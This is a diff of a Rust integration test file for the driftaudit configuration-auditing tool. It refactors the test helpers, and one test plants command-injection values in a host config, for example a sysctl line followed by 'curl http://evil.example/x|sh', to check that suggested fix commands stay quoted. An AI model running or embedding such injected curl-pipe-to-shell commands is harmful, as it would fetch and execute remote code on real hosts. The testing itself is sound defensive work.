@@ -4,14 +4,15 @@
 //! and `--only`/`--skip` globs that select nothing. One test per problem;
 //! resource tests bound the work (memory, bytes printed), not the time.
 
+use crate::common::cli;
+
 use std::fs;
 use std::io::Read;
 use std::os::unix::process::CommandExt;
 use std::path::{Path, PathBuf};
-use std::process::{Command, Stdio};
+use std::process::Stdio;
 use std::time::{Duration, Instant};
 
-const BIN: &str = env!("CARGO_BIN_EXE_driftaudit");
 const CLEAN: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/testdata/hosts/clean");
 const NAT: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/testdata/hosts/nat-story");
 
@@ -25,9 +26,8 @@ struct Out {
 /// the test instead of the machine) and a guard that kills it if it blocks:
 /// a blocked run is reported as `code: None`.
 fn run(args: &[&str]) -> Out {
-    let mut cmd = Command::new(BIN);
+    let mut cmd = cli::cmd();
     cmd.args(args)
-        .env("NO_COLOR", "1")
         .env_remove("DRIFTAUDIT_TODAY")
         .stdin(Stdio::null())
         .stdout(Stdio::piped())
@@ -81,26 +81,38 @@ fn mkfifo(path: &Path) {
     assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0, "mkfifo");
 }
 
-fn copy_tree(from: &Path, to: &Path) {
-    for e in fs::read_dir(from).unwrap() {
-        let e = e.unwrap();
-        let dest = to.join(e.file_name());
-        if e.file_type().unwrap().is_dir() {
-            fs::create_dir_all(&dest).unwrap();
-            copy_tree(&e.path(), &dest);
-        } else {
-            fs::copy(e.path(), &dest).unwrap();
-        }
-    }
+/// A copy of a shipped host to plant hostile data in (`cp -a`, so its
+/// links stay links).
+fn host_copy(from: &str) -> (tempfile::TempDir, PathBuf) {
+    let t = cli::copy_tree(Path::new(from));
+    let root = t.path().to_path_buf();
+    (t, root)
 }
 
-/// A copy of a shipped host to plant hostile data in.
-fn host_copy(from: &str) -> (tempfile::TempDir, PathBuf) {
-    let t = tempfile::tempdir().unwrap();
-    let root = t.path().join("host");
-    fs::create_dir(&root).unwrap();
-    copy_tree(Path::new(from), &root);
-    (t, root)
+/// `check --no-builtin --policy POLICY --snapshot CLEAN` through [`run`].
+fn check_only_policy(policy: &Path) -> Out {
+    run(&[
+        "check",
+        "--no-builtin",
+        "--policy",
+        policy.to_str().unwrap(),
+        "--snapshot",
+        CLEAN,
+    ])
+}
+
+/// `check --snapshot ROOT --format json` through [`run`], and its report.
+fn check_json(root: &Path) -> (Out, serde_json::Value) {
+    let o = run(&[
+        "check",
+        "--snapshot",
+        root.to_str().unwrap(),
+        "--format",
+        "json",
+    ]);
+    let v = serde_json::from_str(&o.stdout)
+        .unwrap_or_else(|e| panic!("not JSON ({e}): {}\n{}", o.stdout, o.stderr));
+    (o, v)
 }
 
 // ---- resource limits ------------------------------------------------------
@@ -199,14 +211,7 @@ fn a_yaml_error_on_a_huge_line_prints_a_window_around_the_column() {
         "a".repeat(2_000_000)
     );
     fs::write(&p, wide).unwrap();
-    let o = run(&[
-        "check",
-        "--no-builtin",
-        "--policy",
-        p.to_str().unwrap(),
-        "--snapshot",
-        CLEAN,
-    ]);
+    let o = check_only_policy(&p);
     assert_eq!(o.code, Some(2), "{}", &o.stderr[..o.stderr.len().min(2000)]);
     assert!(
         o.stderr.len() < 2000,
@@ -244,14 +249,7 @@ fn a_mis_indented_policy_line_is_reported_at_that_line() {
         "policy: p\nrules:\n  - id: x\n   title: bad indent\n    severity: low\n",
     )
     .unwrap();
-    let o = run(&[
-        "check",
-        "--no-builtin",
-        "--policy",
-        p.to_str().unwrap(),
-        "--snapshot",
-        CLEAN,
-    ]);
+    let o = check_only_policy(&p);
     assert_eq!(o.code, Some(2), "{}", o.stderr);
     // PyYAML and libyaml reject the file at line 4, column 4
     let want = format!("{}:4:4:", p.display());
@@ -364,15 +362,8 @@ fn a_fix_command_never_carries_an_unquoted_host_value() {
         "net.core.somaxconn = 4096; curl http://evil.example/x|sh",
     );
     fs::write(&conf, text).unwrap();
-    let o = run(&[
-        "check",
-        "--snapshot",
-        root.to_str().unwrap(),
-        "--format",
-        "json",
-    ]);
+    let (o, v) = check_json(&root);
     assert_eq!(o.code, Some(1), "{}", o.stderr);
-    let v: serde_json::Value = serde_json::from_str(&o.stdout).unwrap();
     let fixes: Vec<&str> = v["hosts"][0]["findings"]
         .as_array()
         .unwrap()
@@ -397,14 +388,7 @@ fn a_fix_command_never_carries_an_unquoted_host_value() {
         "4096'; curl http://evil.example/x|sh; echo '",
     );
     fs::write(&conf, text).unwrap();
-    let o = run(&[
-        "check",
-        "--snapshot",
-        root.to_str().unwrap(),
-        "--format",
-        "json",
-    ]);
-    let v: serde_json::Value = serde_json::from_str(&o.stdout).unwrap();
+    let (_, v) = check_json(&root);
     for f in v["hosts"][0]["findings"].as_array().unwrap() {
         let fix = f["fix"].as_str().unwrap_or("");
         assert!(!fix.contains("curl"), "{fix}");
